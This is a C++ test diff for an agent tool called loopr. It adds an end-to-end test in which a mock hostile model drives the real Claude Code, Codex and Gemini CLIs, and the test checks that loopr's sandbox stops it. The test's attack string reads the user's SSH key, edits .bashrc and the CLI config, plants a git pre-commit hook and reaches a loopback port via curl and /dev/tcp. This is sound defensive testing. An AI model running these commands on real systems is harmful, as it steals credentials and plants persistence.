@@ -14,6 +14,7 @@
 #include <string>
 #include <thread>
 
+#include "support/listener.hpp"
 #include "support/mock_llm.hpp"
 #include "support/subprocess.hpp"
 #include "support/temp_dir.hpp"
@@ -117,6 +118,7 @@ class AgentCliE2eTest : public ::testing::Test {
   std::unique_ptr<MockLlm> mock;
   std::string output;
   int exit_code = -1;
+  std::string cli_settings;  ///< more of `llm.<cli>: {…}` (`, key: value`)
 
   void SetUp() override {
     fs::path root = fs::canonical(base.path());
@@ -159,7 +161,7 @@ class AgentCliE2eTest : public ::testing::Test {
     write_file(repo / ".loopr/config.yml",
                "base_branch: main\nmerge: auto\nllm:\n  provider: " + provider +
                    "\n  base_url: " + mock->url() + "\n  " + settings_key(provider) +
-                   ": {command: " + cli_path(cli_name(provider)).string() +
+                   ": {command: " + cli_path(cli_name(provider)).string() + cli_settings +
                    // claude-code takes its model from llm.model
                    (provider == "claude-code" ? "}\n  model: " + model_of(provider)
                                               : ", model: " + model_of(provider) + "}") +
@@ -457,3 +459,93 @@ TEST_F(AgentCliMcpE2eTest, TheRealClaudeCliReachesShareNoteAndAskUserThroughLoop
                      "\"{{user.1}}\\n\"}}"));
   run_and_check("claude-code", script);
 }
+
+// The hostile model drives each real CLI (issue 46 point 5): in the code loop it has the CLI's
+// own tools read the person's SSH key, write into the person's home (their shell start-up file
+// and the CLI's configuration folder), plant a git hook in the repository and reach a server on
+// the host's loopback. The CLI runs inside loopr's sandbox, so none of it lands: checked from
+// outside, and the key is in nothing the model was sent.
+class AgentCliHostileE2eTest : public AgentCliE2eTest,
+                               public ::testing::WithParamInterface<std::string> {};
+
+namespace {
+
+constexpr const char* kE2eSshMarker = "SECRET-SSH-E2E-7c1d";
+
+/// Every regular file under `dir` with its bytes, for a before/after comparison.
+std::map<std::string, std::string> snapshot(const fs::path& dir) {
+  std::map<std::string, std::string> out;
+  for (auto it = fs::recursive_directory_iterator(dir); it != fs::recursive_directory_iterator();
+       ++it)
+    out[fs::relative(it->path(), dir).string()] =
+        it->is_regular_file() ? read_file(it->path())
+                              : std::string("<") + (it->is_directory() ? "dir" : "other") + ">";
+  return out;
+}
+
+}  // namespace
+
+// proves S1.20 S1.21 S1.23
+TEST_P(AgentCliHostileE2eTest, AHostileModelDrivingTheRealCliReachesNothingOfThePersons) {
+  const std::string provider = GetParam();
+  const std::string cli = cli_name(provider);
+  if (!fs::exists(cli_path(cli)))
+    GTEST_SKIP() << "the " << cli
+                 << " CLI is not installed (tools/install-deps.sh: tests/agent_clis)";
+  write_file(home / ".ssh/id_ed25519", std::string("-----BEGIN KEY-----\n") + kE2eSshMarker + "\n");
+  write_file(home / ".bashrc", "export PS1='$ '\n");
+  auto before = snapshot(home);
+  auto hooks_before = snapshot(repo / ".git/hooks");
+  Listener host;
+  const std::string h = home.string();
+  const std::string attack =
+      "cat " + h + "/.ssh/id_ed25519 ~/.ssh/id_ed25519; echo pwned >> " + h +
+      "/.bashrc; mkdir -p " + h + "/." + cli + " && echo pwned > " + h + "/." + cli +
+      "/settings.json; printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > " +
+      (repo / ".git/hooks").string() +
+      "/pre-commit; curl -s -m 3 http://127.0.0.1:" + std::to_string(host.port()) +
+      "/ || (exec 3<>/dev/tcp/127.0.0.1/" + std::to_string(host.port()) + "); echo attacked";
+  std::string api, tool_use;
+  if (provider == "codex") {
+    api = "responses";
+    tool_use = "{name: exec_command, input: {cmd: " + yaml_str(attack) + "}}";
+  } else if (provider == "gemini") {
+    api = "gemini";
+    tool_use = "{name: run_shell_command, input: {command: " + yaml_str(attack) + "}}";
+  } else {
+    api = "anthropic";
+    // The person let Claude Code run anything (`skip_permissions`): loopr's sandbox still holds.
+    cli_settings = ", skip_permissions: true";
+    tool_use = "[{name: Bash, input: {command: " + yaml_str(attack) +
+               "}}, {name: Write, input: " + "{file_path: " + yaml_str(h + "/.bashrc") +
+               ", content: pwned}}]";
+  }
+  std::string script = provider == "codex"    ? codex_script()
+                       : provider == "gemini" ? gemini_script()
+                                              : claude_script();
+  script.insert(script.find("rules:\n") + 7,
+                "  - name: code-attack\n    match: {api: " + api +
+                    ", loop_type: code, turn: 1}\n    reply:\n      text: \"Looking around.\"\n"
+                    "      tool_use: " +
+                    tool_use + "\n");
+  run_tree(provider, script);
+  EXPECT_EQ(exit_code, 0) << output;
+  // The attack ran (the model got its command's answer back), and changed nothing outside.
+  bool ran = false;
+  for (const auto& r : mock->requests()) {
+    const std::string body = r["body"].dump();
+    EXPECT_EQ(body.find(kE2eSshMarker), std::string::npos) << "the person's key reached the model";
+    // The command's output (its last line), as the CLI sent it back to the model.
+    ran = ran || body.find("\\nattacked") != std::string::npos;
+  }
+  EXPECT_TRUE(ran) << "the CLI did not run the hostile command: the test proves nothing";
+  EXPECT_EQ(snapshot(home), before) << "the person's home changed";
+  EXPECT_EQ(snapshot(repo / ".git/hooks"), hooks_before) << "a hook was planted";
+  EXPECT_EQ(host.accepted(), 0) << "the CLI reached the host's loopback";
+  EXPECT_FALSE(fs::exists("/tmp/pwned"));
+}
+
+INSTANTIATE_TEST_SUITE_P(ClaudeCodexGemini, AgentCliHostileE2eTest,
+                         ::testing::Values("claude-code", "codex", "gemini"), [](const auto& info) {
+                           return info.param == "claude-code" ? std::string("claude") : info.param;
+                         });
